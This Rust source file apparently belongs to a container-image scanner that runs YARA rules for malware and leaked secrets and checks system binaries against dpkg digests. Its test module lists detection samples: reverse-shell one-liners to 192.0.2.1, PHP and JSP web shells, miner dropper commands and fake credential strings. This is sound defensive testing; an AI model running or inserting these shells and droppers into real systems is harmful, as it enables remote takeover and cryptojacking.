//! The analyzer that reads every regular file: YARA rules (malware and secrets) and the MD5
//! digests that the package check compares with dpkg's lists.

use std::io::Read;

use boreal::MetadataValue;
use md5::{Digest as _, Md5};
use stowaway_image::{Analyzer, AnalyzerError, Fact, FactCodec, FileInfo, ImagePath, Interest};
use stowaway_model::Level;

use crate::rules::RuleSet;
use crate::secrets::{self, SecretCheck};
use crate::{DetectionKind, Scanners};

/// Folders whose files are checked against dpkg's `md5sums`: executables, where a backdoor
/// replaces a system program.
const CHECKED_PREFIXES: &[&[u8]] = &[b"bin/", b"sbin/", b"usr/bin/", b"usr/sbin/", b"usr/libexec/", b"usr/local/bin/", b"usr/local/sbin/"];

/// Folders whose ELF shared objects (`*.so*`) are checked against dpkg's `md5sums` too, because
/// a replaced library (libpam, liblzma) backdoors every program that loads it. Only shared
/// objects are hashed: hashing every file under `usr/lib` doubled the detector's time on the apps
/// fixture, most of it for data files.
const LIBRARY_PREFIXES: &[&[u8]] = &[b"lib/", b"lib64/", b"usr/lib/", b"usr/lib64/"];

/// Characters of an excerpt kept around the match.
const MAX_EXCERPT_CHARS: usize = 160;

/// One rule that matched one file.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
pub(crate) struct RuleHit {
    pub(crate) id: String,
    pub(crate) severity: Level,
    pub(crate) kind: DetectionKind,
    pub(crate) title: String,
    /// The matched text (masked for secrets), one line.
    pub(crate) excerpt: Option<String>,
    pub(crate) offset: usize,
    /// The length of the match, which is what redaction replaces.
    pub(crate) length: usize,
    /// The rule skips files that OS packages own.
    pub(crate) outside_packages: bool,
}

/// The facts the content analyzer keeps about one file.
#[derive(Debug, Default, serde::Serialize, serde::Deserialize)]
pub(crate) struct FileScan {
    pub(crate) hits: Vec<RuleHit>,
    /// The MD5 digest of the whole file, for files in [`CHECKED_PREFIXES`].
    pub(crate) md5: Option<[u8; 16]>,
    /// True when the read stopped at the size limit, so rules saw only the start of the file.
    pub(crate) truncated: bool,
}

/// Runs the YARA rules over every regular file, up to the configured size.
pub(crate) struct ContentAnalyzer {
    rules: RuleSet,
    scanners: Scanners,
    interest: Interest,
    codec: FactCodec,
}

impl ContentAnalyzer {
    pub(crate) fn new(rules: RuleSet, scanners: Scanners, max_file_size: u64) -> ContentAnalyzer {
        // The facts depend on the rules and on which scanners keep their hits.
        let version = format!("detect-content/{}/2/{}/{scanners:?}", env!("CARGO_PKG_VERSION"), rules.fingerprint());
        let codec = FactCodec::new(version).with::<FileScan>();
        ContentAnalyzer { rules, scanners, interest: Interest::all_files(max_file_size), codec }
    }

    /// Returns the compiled rules, which the config checks reuse.
    pub(crate) fn rules(&self) -> &RuleSet {
        &self.rules
    }
}

impl Analyzer for ContentAnalyzer {
    fn name(&self) -> &str {
        "detect-content"
    }

    fn interest(&self) -> &Interest {
        &self.interest
    }

    fn fact_codec(&self) -> Option<&FactCodec> {
        Some(&self.codec)
    }

    fn analyze(&self, file: &FileInfo<'_>, content: &mut dyn Read) -> Result<Option<Fact>, AnalyzerError> {
        let mut bytes = Vec::with_capacity(file.entry.size.min(self.interest.max_read()) as usize);
        content.read_to_end(&mut bytes)?;
        let truncated = file.is_truncated(&self.interest);

        let hits = scan_bytes(&self.rules, self.scanners, &bytes);
        // NOTE: a file over the size limit is scanned for its first bytes only. It is never
        // compared with dpkg's digests, and `truncated` carries the cut into the detection.
        let md5 = (!truncated && (is_checked_path(file.path) || is_shared_library(file.path, &bytes))).then(|| Md5::digest(&bytes).into());

        if hits.is_empty() && md5.is_none() {
            return Ok(None);
        }
        if !hits.is_empty() {
            tracing::trace!(path = %file.path, layer = file.layer, hits = hits.len(), "rules matched");
        }
        Ok(Some(Box::new(FileScan { hits, md5, truncated })))
    }
}

fn is_checked_path(path: &ImagePath) -> bool {
    let bytes = path.as_bytes();
    CHECKED_PREFIXES.iter().any(|prefix| bytes.starts_with(prefix))
}

/// Tells whether the file is an ELF shared object in a library folder: `libname.so` or a
/// versioned `libname.so.1.2`.
fn is_shared_library(path: &ImagePath, content: &[u8]) -> bool {
    let bytes = path.as_bytes();
    let name = path.file_name();
    LIBRARY_PREFIXES.iter().any(|prefix| bytes.starts_with(prefix))
        && (name.ends_with(b".so") || name.windows(4).any(|window| window == b".so."))
        && content.starts_with(b"\x7fELF")
}

/// Scans `bytes` with every rule the enabled scanners cover and returns one hit per matching
/// rule. Secret matches are confirmed and masked here, so no full value is kept.
pub(crate) fn scan_bytes(rules: &RuleSet, scanners: Scanners, bytes: &[u8]) -> Vec<RuleHit> {
    let result = match rules.scanner.scan_mem(bytes) {
        Ok(result) => result,
        Err((error, partial)) => {
            tracing::warn!(?error, "YARA scan stopped early; keeping the rules matched so far");
            partial
        }
    };

    let mut hits = Vec::new();
    for rule in &result.rules {
        let Some(info) = rules.info(rule.namespace, rule.name) else { continue };
        let enabled = match info.kind {
            DetectionKind::Secret => scanners.secret,
            _ => scanners.malware,
        };
        if !enabled {
            continue;
        }

        let matches = rule.matches.iter().flat_map(|string| string.matches.iter());
        let (excerpt, offset, length) = if info.kind == DetectionKind::Secret {
            let check = secret_check(rules, rule.metadatas);
            let confirmed = matches.filter_map(|m| Some((secrets::confirm(check, bytes, m.offset, m.length)?, m.offset, m.length))).next();
            match confirmed {
                Some((excerpt, offset, length)) => (Some(excerpt), offset, length),
                None => continue,
            }
        } else {
            match matches.min_by_key(|m| m.offset) {
                Some(first) => (Some(line_excerpt(bytes, first.offset, first.length)), first.offset, first.length),
                None => (None, 0, 0),
            }
        };

        hits.push(RuleHit {
            id: info.id.clone(),
            severity: info.severity,
            kind: info.kind,
            title: info.description.clone(),
            excerpt,
            offset,
            length,
            outside_packages: info.outside_packages,
        });
    }
    hits
}

fn secret_check(rules: &RuleSet, metadatas: &[boreal::Metadata]) -> SecretCheck {
    metadatas
        .iter()
        .find(|meta| rules.scanner.get_string_symbol(meta.name) == "check")
        .and_then(|meta| match meta.value {
            MetadataValue::Bytes(symbol) => std::str::from_utf8(rules.scanner.get_bytes_symbol(symbol)).ok().and_then(SecretCheck::from_name),
            _ => None,
        })
        // A user secret rule without `check` is treated as a token, the strictest check that
        // still masks the value.
        .unwrap_or(SecretCheck::Token)
}

/// Returns the line around a match, printable characters only, cut to [`MAX_EXCERPT_CHARS`]
/// starting at the match when the line is longer.
pub(crate) fn line_excerpt(bytes: &[u8], offset: usize, length: usize) -> String {
    let offset = offset.min(bytes.len());
    let start = bytes[..offset].iter().rposition(|b| *b == b'\n').map_or(0, |i| i + 1);
    let end = bytes[offset..].iter().position(|b| *b == b'\n').map_or(bytes.len(), |i| offset + i);
    let start = if offset - start > MAX_EXCERPT_CHARS / 2 || length > MAX_EXCERPT_CHARS { offset } else { start };

    String::from_utf8_lossy(&bytes[start..end])
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(MAX_EXCERPT_CHARS)
        .collect::<String>()
        .trim()
        .to_owned()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    /// One text per bundled rule that the rule must find.
    const SAMPLES: &[(&str, &str)] = &[
        ("miner-stratum-url", "url=stratum+ssl://pool.example.invalid:443"),
        ("miner-pool-domain", "POOL=gulf.moneroocean.stream:10128"),
        ("miner-config", r#"{"pools":[{"url":"u","user":"w"}],"donate-level":1,"algo":"rx/0"}"#),
        ("miner-cli-options", "./x --donate-level 0 --max-cpu-usage 90"),
        ("miner-wallet", "-o pool --user 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -o pool"),
        ("revshell-bash-dev-tcp", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ("revshell-netcat-exec", "nc.traditional -e /bin/bash 192.0.2.1 1"),
        ("revshell-mkfifo-pipe", "mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f"),
        ("revshell-socat-exec", "socat exec:'sh -i',pty tcp:192.0.2.1:1"),
        ("revshell-python-socket", "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn('sh')"),
        ("revshell-perl-socket", "socket(S,PF_INET,1,6);open(STDIN,'>&S');exec('/bin/sh -i');"),
        ("revshell-php-socket", "$s=fsockopen('h',1);shell_exec('/bin/sh -i <&3');"),
        ("webshell-php-request-exec", "<?php passthru($_REQUEST['c']);"),
        ("webshell-jsp-runtime-exec", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
        ("malware-kinsing", "curl -o /tmp/kdevtmpfsi http://h/kinsing"),
        ("malware-miner-dropper", "killall -9 minerd\nsetenforce 0\nchattr -i /etc/x "),
        ("malware-teamtnt", "# TeamTNT\ncurl -s http://h/xmrig"),
        ("secret-private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"),
        ("secret-aws-access-key-id", "id=AKIAZ7QW3ERT5YUI7OPA"),
        ("secret-aws-secret-access-key", "aws_secret_access_key = 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"),
        ("secret-gcp-service-account", r#"{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\n"}"#),
        ("secret-gcp-api-key", "key=AIzaSyZq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL"),
        ("secret-azure-storage-key", "AccountName=a;AccountKey=Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mNa1b2Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mNa1b2Zq8Xv2==;"),
        ("secret-github-token", "t=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"),
        ("secret-gitlab-token", "glpat-Zq8Xv2LmZ7rT4wK9pN3b"),
        ("secret-slack-token", "xoxb-1234567890-Zq8Xv2LmZ7rT4wK9pN3b"),
        ("secret-slack-webhook", "https://hooks.slack.com/services/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"),
        ("secret-stripe-key", "rk_live_Zq8Xv2LmZ7rT4wK9pN3bY6cD"),
        ("secret-alibaba-access-key", "LTAI5tQm8XvZ2pL7rK9nB4wY"),
        ("secret-generic-assignment", "api_key = \"qPQdb629ADURTPYT1DLoqsNTKTSfdBoe\""),
    ];

    #[test]
    fn every_text_rule_has_a_matching_sample() {
        let rules = RuleSet::compile(&[]).unwrap();
        let all = Scanners::default();
        for (id, sample) in SAMPLES {
            let hits = scan_bytes(&rules, all, sample.as_bytes());
            assert!(hits.iter().any(|hit| hit.id == *id), "`{id}` missed its sample; hits {:?}", hits.iter().map(|h| &h.id).collect::<Vec<_>>());
        }

        // The two binary rules have their own tests with crafted ELF files.
        let covered: BTreeSet<&str> = SAMPLES.iter().map(|(id, _)| *id).chain(["packed-upx", "miner-xmrig-binary"]).collect();
        let missing: Vec<&str> = rules.all_info().map(|info| info.id.as_str()).filter(|id| !covered.contains(id)).collect();
        assert!(missing.is_empty(), "rules without a sample: {missing:?}");
    }

    #[test]
    fn xmrig_binary_rule_needs_an_elf() {
        let rules = RuleSet::compile(&[]).unwrap();
        let strings = b"XMRig 6.21 randomx donate-level stratum cryptonight";
        let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
        elf.extend_from_slice(strings);

        let ids = |bytes: &[u8]| scan_bytes(&rules, Scanners::default(), bytes).into_iter().map(|hit| hit.id).collect::<Vec<_>>();
        assert!(ids(&elf).contains(&"miner-xmrig-binary".to_owned()));
        assert!(!ids(strings).contains(&"miner-xmrig-binary".to_owned()));
    }

    /// Mixes fragments of rule strings with noise, so matches start and end at buffer edges,
    /// inside invalid UTF-8 and next to NUL bytes.
    #[test]
    fn hostile_buffers_never_panic() {
        let rules = RuleSet::compile(&[]).unwrap();
        let fragments: Vec<&[u8]> = SAMPLES.iter().map(|(_, sample)| sample.as_bytes()).collect();
        let mut state = 0x9e37_79b9_7f4a_7c15u64;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };

        for _ in 0..300 {
            let mut buffer = Vec::new();
            for _ in 0..(next() % 6) {
                let fragment = fragments[(next() % fragments.len() as u64) as usize];
                let cut = (next() % (fragment.len() as u64 + 1)) as usize;
                buffer.extend_from_slice(if next() % 2 == 0 { &fragment[..cut] } else { &fragment[cut..] });
                buffer.extend((0..next() % 4).map(|_| (next() % 256) as u8));
            }
            for hit in scan_bytes(&rules, Scanners::default(), &buffer) {
                assert!(hit.offset <= buffer.len());
            }
            let offset = (next() % (buffer.len() as u64 + 2)) as usize;
            let _ = line_excerpt(&buffer, offset, next() as usize % 400);
            for check in [SecretCheck::None, SecretCheck::Token, SecretCheck::Assignment] {
                let _ = secrets::confirm(check, &buffer, offset, next() as usize % 400);
            }
        }
    }

    #[test]
    fn excerpt_is_the_matching_line() {
        let bytes = b"first\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nlast\n";
        assert_eq!(line_excerpt(bytes, 14, 10), "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
    }

    #[test]
    fn excerpt_of_binary_is_printable_and_bounded() {
        let mut bytes = vec![0u8; 500];
        bytes.extend_from_slice(b"stratum+tcp://pool.invalid:3333");
        bytes.extend(vec![1u8; 500]);
        let excerpt = line_excerpt(&bytes, 500, 31);
        assert!(excerpt.starts_with("stratum+tcp://pool.invalid:3333"), "{excerpt}");
        assert!(excerpt.chars().count() <= MAX_EXCERPT_CHARS);
    }
}
